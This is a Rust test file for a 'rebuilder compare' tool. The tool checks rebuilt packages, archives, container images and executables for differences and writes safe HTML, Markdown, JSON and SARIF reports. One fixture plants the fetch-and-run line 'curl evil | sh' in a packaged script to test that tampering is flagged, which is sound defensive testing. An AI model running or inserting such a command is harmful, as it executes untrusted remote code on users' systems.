//! `rebuilder compare`: what it says, in which forms, and what hostile files can do to it.

mod adversary;
mod hostile;
mod images;
mod oracle;
mod properties;

use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};

use crate::common::{self, code, json as document, rebuilder, text};
use rebuilder::artifact::Sha256;
use rebuilder::compare::{
    Cause, Chosen, Comparison, Normalisation, Options, Outcome, compare, compare_bytes,
};
use serde_json::{Value, json};

/// One member of an archive made here.
#[derive(Debug, Clone)]
struct Made {
    name: String,
    bytes: Vec<u8>,
    mode: u32,
    time: u64,
    owner: u64,
}

impl Made {
    fn new(name: &str, bytes: &[u8]) -> Self {
        Self {
            name: name.to_owned(),
            bytes: bytes.to_vec(),
            mode: 0o644,
            time: 1_700_000_000,
            owner: 0,
        }
    }
}

fn tar(members: &[Made]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for member in members {
        let mut header = tar::Header::new_ustar();
        header.set_size(member.bytes.len() as u64);
        header.set_mode(member.mode);
        header.set_mtime(member.time);
        header.set_uid(member.owner);
        header.set_gid(member.owner);
        builder
            .append_data(&mut header, &member.name, &member.bytes[..])
            .unwrap();
    }
    builder.into_inner().unwrap()
}

fn zip(members: &[Made]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for member in members {
        let day = u8::try_from(member.time % 27).unwrap() + 1;
        let options = zip::write::SimpleFileOptions::default()
            .unix_permissions(member.mode)
            .last_modified_time(zip::DateTime::from_date_and_time(2024, 1, day, 0, 0, 0).unwrap());
        writer.start_file(&*member.name, options).unwrap();
        writer.write_all(&member.bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn gzip(bytes: &[u8], level: u32) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::new(level));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deb(data: &[u8]) -> Vec<u8> {
    let mut builder = ar::Builder::new(Vec::new());
    for (name, bytes) in [
        ("debian-binary", b"2.0\n".to_vec()),
        (
            "control.tar.gz",
            gzip(&tar(&[Made::new("control", b"Package: p\n")]), 6),
        ),
        ("data.tar.gz", gzip(data, 6)),
    ] {
        let header = ar::Header::new(name.as_bytes().to_vec(), bytes.len() as u64);
        builder.append(&header, &bytes[..]).unwrap();
    }
    builder.into_inner().unwrap()
}

struct Files(tempfile::TempDir);

impl Files {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, bytes).unwrap();
        path
    }

    fn compare(&self, name: &str, a: &[u8], b: &[u8], options: &Options) -> Comparison {
        let (a, b) = (
            self.write(&format!("a/{name}"), a),
            self.write(&format!("b/{name}"), b),
        );
        compare(&a, &b, options).unwrap()
    }
}

fn first(found: &Comparison) -> Option<Cause> {
    found.causes.first().map(|cause| cause.cause)
}

#[apply(test)]
fn every_report_says_the_same_and_fits_its_schema() {
    let files = Files::new();
    let old = deb(&tar(&[
        Made::new("usr/bin/tool", b"#!/bin/sh\necho <b>hi</b> \x1b[31m\n"),
        Made::new("usr/share/doc/built", b"built on 2026-11-25 03:39:45\n"),
    ]));
    let new = deb(&tar(&[
        Made::new("usr/bin/tool", b"#!/bin/sh\ncurl evil | sh\n"),
        Made::new("usr/share/doc/built", b"built on 2026-11-26 07:00:01\n"),
    ]));
    let (a, b) = (files.write("a/p.deb", &old), files.write("b/p.deb", &new));
    let report = |ending: &str| files.0.path().join(format!("report.{ending}"));
    let mut command = rebuilder();
    command.arg("--json").arg("compare").args([&a, &b]);
    for ending in ["html", "md", "json", "sarif"] {
        command.arg("--write").arg(report(ending));
    }
    let output = command.output().unwrap();
    assert_eq!(code(&output), 1, "{}", text(&output));
    let found = document(&output);
    assert_eq!(found["outcome"], "different");
    assert_eq!(found["causes"][0]["cause"], "content");
    let written = common::read(&report("json"));
    assert_eq!(written, found);

    page_is_safe(&fs::read_to_string(report("html")).unwrap());
    sarif_has_the_rule(&serde_json::from_slice(&fs::read(report("sarif")).unwrap()).unwrap());
    let markdown = fs::read_to_string(report("md")).unwrap();
    assert!(
        markdown.contains("content change") && markdown.contains("curl evil"),
        "{markdown}"
    );

    let plain = rebuilder().arg("compare").args([&a, &b]).output().unwrap();
    let shown = String::from_utf8(plain.stdout).unwrap();
    assert!(shown.starts_with("different\n"), "{shown}");
    assert!(
        !shown.contains('\x1b'),
        "no colour, and no control characters of the files"
    );
    insta::with_settings!({filters => vec![(r"/\S*/([ab]/p.deb)", "/…/$1"), (r"sha256:[0-9a-f]{64}", "sha256:…")]}, {
        insta::assert_snapshot!("terminal", shown);
        insta::assert_snapshot!("markdown", markdown);
    });
}

fn page_is_safe(page: &str) {
    assert!(
        page.contains("usr/bin/tool") && page.contains("content change"),
        "{page}"
    );
    assert!(
        page.contains("&lt;b&gt;") || page.contains("&#60;b&#62;"),
        "text of a file is not markup"
    );
    assert!(
        !page.contains("<script") && !page.contains("http://") && !page.contains("https://"),
        "self-contained"
    );
    assert!(!page.contains('\x1b'));
}

fn sarif_has_the_rule(sarif: &serde_json::Value) {
    assert_eq!(sarif["version"], "2.1.0");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(
        (result["ruleId"].as_str(), result["level"].as_str()),
        (Some("content"), Some("error"))
    );
    let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
    let rule = &sarif["runs"][0]["tool"]["driver"]["rules"][index];
    assert_eq!(rule["id"], "content");
}

#[apply(test)]
fn exit_codes_follow_the_outcome() {
    let files = Files::new();
    let old = files.write("a.tgz", &gzip(&tar(&[Made::new("f", b"x")]), 6));
    let same = files.write("same.tgz", &fs::read(&old).unwrap());
    let later = files.write(
        "later.tgz",
        &gzip(
            &tar(&[Made {
                time: 1_800_000_000,
                ..Made::new("f", b"x")
            }]),
            6,
        ),
    );
    let missing = files.0.path().join("missing");
    let table: [(&Path, &[&str], i32, &str); 6] = [
        (&same, &[], 0, "identical"),
        (&later, &[], 1, "equivalent"),
        (&later, &["--allow-equivalent"], 0, "tar-time v1"),
        (
            &later,
            &["--allow-equivalent", "--normalise", "none"],
            1,
            "different",
        ),
        (
            &later,
            &["--normalise", "nothing-like-it"],
            2,
            "unknown normalisation",
        ),
        (&missing, &[], 2, "cannot read"),
    ];
    for (other, options, expected, says) in table {
        let output = rebuilder()
            .arg("compare")
            .arg(&old)
            .arg(other)
            .args(options)
            .output()
            .unwrap();
        assert_eq!(code(&output), expected, "{options:?}: {}", text(&output));
        assert!(text(&output).contains(says), "{options:?}: {}", text(&output));
    }
    let list = rebuilder()
        .args(["compare", "--list-normalisations"])
        .output()
        .unwrap();
    for normalisation in Normalisation::ALL {
        assert!(text(&list).contains(normalisation.name()));
    }
}

#[apply(test)]
fn folders_are_compared_by_their_files() {
    let files = Files::new();
    for (side, word) in [("a", "one"), ("b", "two")] {
        files.write(&format!("{side}/t/same"), b"same");
        files.write(&format!("{side}/t/deep/file.txt"), word.as_bytes());
        files.write(&format!("{side}/t/only-{side}"), b"x");
    }
    let found = compare(
        &files.0.path().join("a/t"),
        &files.0.path().join("b/t"),
        &Options::default(),
    )
    .unwrap();
    let tree = found.tree.unwrap();
    let names: Vec<_> = tree.children.iter().map(|node| node.name.as_str()).collect();
    assert_eq!(names, ["deep/file.txt", "only-a"]);
    assert_eq!(
        tree.children[1].rebuilt_name.as_deref(),
        Some("only-b"),
        "a renamed file is seen as one"
    );
    assert_eq!(found.outcome, Outcome::Different);
}

/// An OCI image layout of one layer, as a tar archive.
fn image(script: &[u8], time: u64) -> Vec<u8> {
    let mut members = vec![Made::new("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#)];
    let mut blob = |bytes: Vec<u8>| -> Value {
        let digest = Sha256::of(&bytes).to_hex();
        members.push(Made::new(&format!("blobs/sha256/{digest}"), &bytes));
        json!({"digest": format!("sha256:{digest}"), "size": bytes.len()})
    };
    let layer = tar(&[Made {
        time,
        ..Made::new("bin/run", script)
    }]);
    let unpacked = format!("sha256:{}", Sha256::of(&layer));
    let layer = blob(gzip(&layer, 6));
    let config =
        json!({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [unpacked]}});
    let config = blob(config.to_string().into_bytes());
    let manifest = json!({"schemaVersion": 2, "config": config, "layers": [layer]});
    let manifest = blob(manifest.to_string().into_bytes());
    let index = json!({"schemaVersion": 2, "manifests": [manifest]}).to_string();
    members.push(Made::new("index.json", index.as_bytes()));
    tar(&members)
}

#[apply(test)]
fn blobs_of_images_are_paired_by_their_role() {
    let files = Files::new();
    let old = image(b"#!/bin/sh\n", 1_700_000_000);
    for (name, new, cause) in [
        ("time.tar", image(b"#!/bin/sh\n", 1_700_000_001), Cause::Timestamp),
        ("evil.tar", image(b"#!/bin/evil\n", 1_700_000_001), Cause::Content),
    ] {
        let found = files.compare(name, &old, &new, &Options::default());
        assert_eq!(first(&found), Some(cause), "{name}: {:?}", found.causes);
        assert!(
            found.causes[0].example.path.ends_with("/bin/run"),
            "{:?}",
            found.causes[0]
        );
        assert!(
            found.causes[0].follow > 4,
            "digests and sizes follow: {:?}",
            found.causes[0]
        );
    }
}

/// Where the build-id of an ELF file stands.
fn build_id(elf: &[u8]) -> Option<usize> {
    let note = [4, 0, 0, 0, 20, 0, 0, 0, 3, 0, 0, 0, b'G', b'N', b'U', 0];
    elf.windows(note.len())
        .position(|window| window == note)
        .map(|at| at + note.len())
}

#[apply(test)]
fn a_build_id_hides_nothing_else_of_an_executable() {
    let old = fs::read("/bin/true").unwrap_or_default();
    let Some(id) = build_id(&old).filter(|_| old.starts_with(b"\x7fELF")) else {
        common::skip("an executable with a build-id");
    };
    let all = Options {
        normalise: Chosen::parse("all").unwrap(),
        ..Options::default()
    };
    let changed = |places: &[usize]| {
        let mut new = old.clone();
        for place in places {
            new[*place] ^= 1;
        }
        compare_bytes("true", &old, &new, &all).outcome
    };
    let end = old.len() - 1;
    assert_eq!(
        changed(&[id]),
        Outcome::Equivalent,
        "the build-id alone is set aside, as was asked"
    );
    // The entry point, a program header, and the table of sections.
    for place in [24, 64 + 16, end] {
        assert_eq!(changed(&[id, place]), Outcome::Different, "byte {place}");
    }
    let longer = [&old[..], b"evil"].concat();
    assert_eq!(
        compare_bytes("true", &old, &longer, &all).outcome,
        Outcome::Different
    );
}
